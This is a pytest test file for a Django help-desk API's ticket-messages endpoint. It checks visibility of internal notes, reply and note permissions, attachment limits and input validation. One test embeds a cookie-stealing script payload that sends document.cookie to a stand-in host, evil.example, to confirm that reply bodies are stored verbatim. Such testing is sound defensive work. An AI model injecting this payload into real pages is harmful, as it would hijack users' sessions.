"""/api/v1/tickets/<key>/messages/: the conversation; internal notes for agents only."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from deskpact.accounts.models import User
from deskpact.api.tests.support import assert_field_refused, assert_problem
from deskpact.tickets import services
from deskpact.tickets.models import Attachment, Message, Ticket, TicketEvent

ApiAs = Callable[[User], APIClient]

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media_in_tmp(settings: Any, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"


def url(ticket: Ticket) -> str:
    return f"/api/v1/tickets/{ticket.key}/messages/"


@pytest.fixture
def ticket(customer: User) -> Ticket:
    return services.open_ticket(
        requester=customer, submitter=customer, subject="Printer jams", body="b", channel="web"
    )


@pytest.fixture
def conversation(ticket: Ticket, customer: User, agent: User) -> dict[str, Message]:
    reply = services.post_reply(ticket, author=agent, body="Have you tried paper?").message
    assert reply is not None
    return {
        "reply": reply,
        "note": services.post_note(ticket, author=agent, body="Customer seems grumpy."),
    }


def state() -> tuple[int, ...]:
    return (
        Message.objects.count(),
        Attachment.objects.count(),
        Ticket.objects.count(),
        TicketEvent.objects.count(),
    )


# Reading --------------------------------------------------------------------------------


def test_customer_reads_the_conversation_without_internal_notes(
    api_as: ApiAs, customer: User, ticket: Ticket, conversation: dict[str, Message]
) -> None:
    response = api_as(customer).get(url(ticket))

    assert response.status_code == 200, response.content
    rows = response.json()
    assert [row["id"] for row in rows] == [conversation["reply"].pk]
    assert rows[0]["is_internal"] is False
    assert b"grumpy" not in response.content


def test_agent_reads_replies_and_notes_in_order(
    api_as: ApiAs, agent: User, ticket: Ticket, conversation: dict[str, Message]
) -> None:
    rows = api_as(agent).get(url(ticket)).json()

    assert [(row["id"], row["is_internal"]) for row in rows] == [
        (conversation["reply"].pk, False),
        (conversation["note"].pk, True),
    ]
    assert rows[0]["author"] == {"id": agent.pk, "email": agent.email, "name": agent.name}


def test_messages_of_an_invisible_ticket_are_not_found(
    api_as: ApiAs, other_customer: User, ticket: Ticket, conversation: dict[str, Message]
) -> None:
    client = api_as(other_customer)

    assert_problem(client.get(url(ticket)), 404, "ticket_not_found")
    before = state()
    assert_problem(client.post(url(ticket), {"body": "hi"}, format="json"), 404, "ticket_not_found")
    assert state() == before


def test_messages_cost_the_same_queries_for_2_and_20_messages(
    api_as: ApiAs, agent: User, customer: User, ticket: Ticket
) -> None:
    def queries(client: APIClient) -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url(ticket)).status_code == 200
        return len(captured)

    def post(n: int) -> None:
        upload = SimpleUploadedFile(f"log{n}.txt", b"lines")
        services.post_reply(ticket, author=customer, body=f"reply {n}", attachments=[upload])
        services.post_note(ticket, author=agent, body=f"note {n}", attachments=[upload])

    post(0)
    few_agent, few_customer = queries(api_as(agent)), queries(api_as(customer))
    for n in range(1, 10):
        post(n)

    assert len(api_as(agent).get(url(ticket)).json()) == 20
    assert queries(api_as(agent)) == few_agent
    assert queries(api_as(customer)) == few_customer


# Writing --------------------------------------------------------------------------------


def test_customer_replies_publicly(api_as: ApiAs, customer: User, ticket: Ticket) -> None:
    response = api_as(customer).post(url(ticket), {"body": "Still broken."}, format="json")

    assert response.status_code == 201, response.content
    body = response.json()
    assert (body["ticket"], body["follow_up"]) == (ticket.key, False)
    assert (body["message"]["body"], body["message"]["is_internal"]) == ("Still broken.", False)
    message = Message.objects.get()
    assert (message.author, message.is_internal, message.channel) == (customer, False, "api")


def test_customer_can_never_write_an_internal_note(
    api_as: ApiAs, customer: User, ticket: Ticket
) -> None:
    before = state()

    response = api_as(customer).post(
        url(ticket), {"body": "Psst, agents only", "is_internal": True}, format="json"
    )

    assert_problem(response, 403, "not_allowed")
    assert state() == before
    assert not Message.objects.filter(is_internal=True).exists()


def test_customer_note_with_a_file_stores_neither(
    api_as: ApiAs, customer: User, ticket: Ticket
) -> None:
    before = state()

    response = api_as(customer).post(
        url(ticket),
        {
            "body": "secret",
            "is_internal": "true",
            "attachments": [SimpleUploadedFile("a.txt", b"x")],
        },
        format="multipart",
    )

    assert_problem(response, 403, "not_allowed")
    assert state() == before


def test_agent_writes_an_internal_note_the_customer_never_sees(
    api_as: ApiAs, agent: User, customer: User, ticket: Ticket
) -> None:
    response = api_as(agent).post(
        url(ticket), {"body": "Known bug DP-17.", "is_internal": True}, format="json"
    )

    assert response.status_code == 201, response.content
    assert response.json()["message"]["is_internal"] is True
    note = Message.objects.get()
    assert (note.is_internal, note.author) == (True, agent)
    assert Ticket.objects.get(pk=ticket.pk).first_response_at is None
    assert api_as(customer).get(url(ticket)).json() == []


def test_agent_reply_takes_a_new_ticket_into_work(
    api_as: ApiAs, agent: User, ticket: Ticket
) -> None:
    response = api_as(agent).post(url(ticket), {"body": "On it."}, format="json")

    assert response.status_code == 201, response.content
    row = Ticket.objects.get(pk=ticket.pk)
    assert (row.status, row.first_response_at is not None) == (Ticket.Status.OPEN, True)


def test_customer_reply_to_a_closed_ticket_opens_a_linked_one(
    api_as: ApiAs, agent: User, customer: User, ticket: Ticket
) -> None:
    services.change_status(ticket, to=Ticket.Status.CLOSED, by=agent)

    response = api_as(customer).post(url(ticket), {"body": "It is back."}, format="json")

    assert response.status_code == 201, response.content
    body = response.json()
    follow_up = Ticket.objects.get(follows=ticket)
    assert (body["ticket"], body["follow_up"], body["message"]) == (follow_up.key, True, None)
    assert body["ticket"] != ticket.key
    assert (follow_up.body, follow_up.requester, follow_up.status) == (
        "It is back.",
        customer,
        "new",
    )
    assert Ticket.objects.get(pk=ticket.pk).status == Ticket.Status.CLOSED
    detail = api_as(customer).get(f"/api/v1/tickets/{follow_up.key}/").json()
    assert detail["follows"] == ticket.key


def test_agent_reply_to_a_closed_ticket_is_refused(
    api_as: ApiAs, agent: User, ticket: Ticket
) -> None:
    services.change_status(ticket, to=Ticket.Status.CLOSED, by=agent)
    before = state()

    response = api_as(agent).post(url(ticket), {"body": "Late answer."}, format="json")

    assert_problem(response, 409, "transition_refused")
    assert state() == before


def test_customer_uploads_files_with_a_reply(api_as: ApiAs, customer: User, ticket: Ticket) -> None:
    response = api_as(customer).post(
        url(ticket),
        {
            "body": "Logs attached.",
            "attachments": [
                SimpleUploadedFile("printer.log", b"E42 paper jam", content_type="text/plain"),
                SimpleUploadedFile("photo.png", b"\x89PNG...", content_type="image/png"),
            ],
        },
        format="multipart",
    )

    assert response.status_code == 201, response.content
    files = response.json()["message"]["attachments"]
    assert [(f["filename"], f["content_type"], f["size"]) for f in files] == [
        ("printer.log", "text/plain", 13),
        ("photo.png", "image/png", 7),
    ]
    stored = Attachment.objects.get(filename="printer.log")
    assert files[0]["download_url"] == f"/api/v1/attachments/{stored.pk}/"
    assert stored.file.read() == b"E42 paper jam"
    assert stored.message.author == customer


def test_an_attachment_over_the_limit_is_refused_and_nothing_is_stored(
    api_as: ApiAs, customer: User, ticket: Ticket, settings: Any
) -> None:
    settings.ATTACHMENT_MAX_BYTES = 1024
    before = state()

    response = api_as(customer).post(
        url(ticket),
        {
            "body": "Two files.",
            "attachments": [
                SimpleUploadedFile("small.txt", b"x" * 10),
                SimpleUploadedFile("dump.bin", b"x" * 1025),
            ],
        },
        format="multipart",
    )

    body = assert_problem(response, 413, "attachment_too_large")
    assert "attachments" in body["errors"]
    assert "dump.bin" in body["detail"]
    assert state() == before


@pytest.mark.parametrize(
    ("raw", "field"),
    [
        ("{}", "body"),
        ('{"body": ""}', "body"),
        ('{"body": "   "}', "body"),
        ('{"body": "a\\u0000b"}', "body"),
        ('{"body": "\\ud800"}', "body"),
        ('{"body": "ok", "is_internal": "perhaps"}', "is_internal"),
        ('{"body": "ok", "attachments": ["not a file"]}', "attachments.0"),
    ],
)
def test_bad_messages_are_refused_on_their_field(
    api_as: ApiAs, agent: User, ticket: Ticket, raw: str, field: str
) -> None:
    before = state()

    response = api_as(agent).post(url(ticket), data=raw, content_type="application/json")

    assert_field_refused(response, field)
    assert state() == before


def test_more_than_20_files_are_refused(api_as: ApiAs, customer: User, ticket: Ticket) -> None:
    files = [SimpleUploadedFile(f"{n}.txt", b"x") for n in range(21)]
    before = state()

    response = api_as(customer).post(
        url(ticket), {"body": "Many.", "attachments": files}, format="multipart"
    )

    assert_field_refused(response, "attachments")
    assert state() == before


def test_script_in_a_reply_is_stored_and_returned_verbatim(
    api_as: ApiAs, customer: User, ticket: Ticket
) -> None:
    script = "<script>document.location='https://evil.example/?'+document.cookie</script>"

    response = api_as(customer).post(url(ticket), {"body": script}, format="json")

    assert response.json()["message"]["body"] == script
    assert Message.objects.get().body == script
    assert api_as(customer).get(url(ticket)).json()[0]["body"] == script


def test_a_10_mb_reply_in_a_form_is_a_clean_problem(
    api_as: ApiAs, customer: User, ticket: Ticket
) -> None:
    client = api_as(customer)
    client.raise_request_exception = False
    before = state()

    response = client.post(url(ticket), {"body": "b" * 10 * 1024 * 1024}, format="multipart")

    assert_problem(response, 413, "request_too_large")
    assert state() == before


def test_too_many_form_fields_are_a_parse_problem(
    api_as: ApiAs, customer: User, ticket: Ticket, settings: Any
) -> None:
    settings.DATA_UPLOAD_MAX_NUMBER_FIELDS = 5
    client = api_as(customer)
    client.raise_request_exception = False
    before = state()

    response = client.post(
        url(ticket), {"body": "b", **{f"f{n}": "x" for n in range(10)}}, format="multipart"
    )

    assert "fields" in assert_problem(response, 400, "parse_error")["detail"]
    assert state() == before


def test_too_many_files_are_a_parse_problem(
    api_as: ApiAs, customer: User, ticket: Ticket, settings: Any
) -> None:
    settings.DATA_UPLOAD_MAX_NUMBER_FILES = 3
    client = api_as(customer)
    client.raise_request_exception = False
    before = state()

    files = [SimpleUploadedFile(f"{n}.txt", b"x") for n in range(5)]
    response = client.post(url(ticket), {"body": "b", "attachments": files}, format="multipart")

    assert "files" in assert_problem(response, 400, "parse_error")["detail"]
    assert state() == before
